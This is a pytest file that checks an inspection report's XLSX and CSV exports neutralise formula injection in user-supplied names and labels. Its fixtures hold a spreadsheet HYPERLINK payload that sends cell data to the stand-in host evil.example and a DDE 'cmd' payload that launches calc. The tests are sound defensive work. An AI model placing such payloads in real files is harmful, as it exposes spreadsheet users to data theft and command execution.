"""Names users choose (picture names, zip folders = wire ids, labels) never become live formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.inspection.reports import InspectionReport, csv_cell, csv_text_of
from core.inspection.verdicts import BoxPrediction, PictureResult
from interop.dataset import ForeignBox, ForeignDataset, ForeignImage
from interop.formats import csv as csv_format

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"open me")_TOP.png'
HOSTILE_WIRE = "@SUM(1+1)*cmd|' /C calc'!A0"
BOX = BoxPrediction(-2.5, 3, 40, 50, 0.9, "TOP", 0.99, "SWEEP", 0.8)


def report() -> InspectionReport:
    return InspectionReport(
        pictures=[
            PictureResult(HOSTILE_NAME, HOSTILE_WIRE, "TOP", (BOX,)),
            PictureResult("+1-2_SIDE.png", "-lot", "SIDE", (), error="=no loop"),
        ]
    )


def test_the_xlsx_report_stores_names_as_text_not_formulas() -> None:
    workbook = load_workbook(io.BytesIO(report().xlsx_bytes()))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert workbook["Boxes"]["A2"].value == HOSTILE_NAME  # the name as it is, shown as text
    assert HOSTILE_WIRE in [cell.value for cell in cells]
    assert workbook["Boxes"]["B2"].value == -2.5  # numbers stay numbers


def test_the_csv_report_defuses_names_and_keeps_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(report().csv_text())))
    assert rows[0]["image_name"] == "'" + HOSTILE_NAME and rows[0]["wire_id"] == "'" + HOSTILE_WIRE
    assert rows[0]["bbox_x1"] == "-2.5"
    assert rows[1]["image_name"] == "'+1-2_SIDE.png" and rows[1]["error"] == "'=no loop" and rows[1]["wire_id"] == "'-lot"
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())


@pytest.mark.parametrize("text", ["=1+1", "+A1", "-x", "@x", "\tx", "\rx", "'=kept", "''=x", "plain", "'quoted'"])
def test_a_defused_cell_reads_back_as_it_was(text: str) -> None:
    assert csv_text_of(csv_cell(text)) == text
    assert csv_cell("-12.5") == "-12.5" and csv_cell(-3) == -3


def test_the_csv_export_defuses_names_and_reads_back_unchanged(tmp_path: Path) -> None:
    image = ForeignImage(name=HOSTILE_NAME, group=HOSTILE_WIRE, width=1004, height=1004)
    image.boxes.append(ForeignBox(label="=SWEEP", x=1, y=2, width=30, height=40, attributes={"view": "+TOP"}))
    dataset = ForeignDataset(format="csv", images=[image], labels=["=SWEEP"])
    path = csv_format.write(dataset, tmp_path / "boxes.csv")
    cells = [cell for row in csv.reader(path.read_text(encoding="utf-8").splitlines()[1:]) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    again = csv_format.read(path)
    assert [(i.name, i.group) for i in again.images] == [(HOSTILE_NAME, HOSTILE_WIRE)]
    assert [(b.label, b.attributes["view"]) for b in again.images[0].boxes] == [("=SWEEP", "+TOP")]
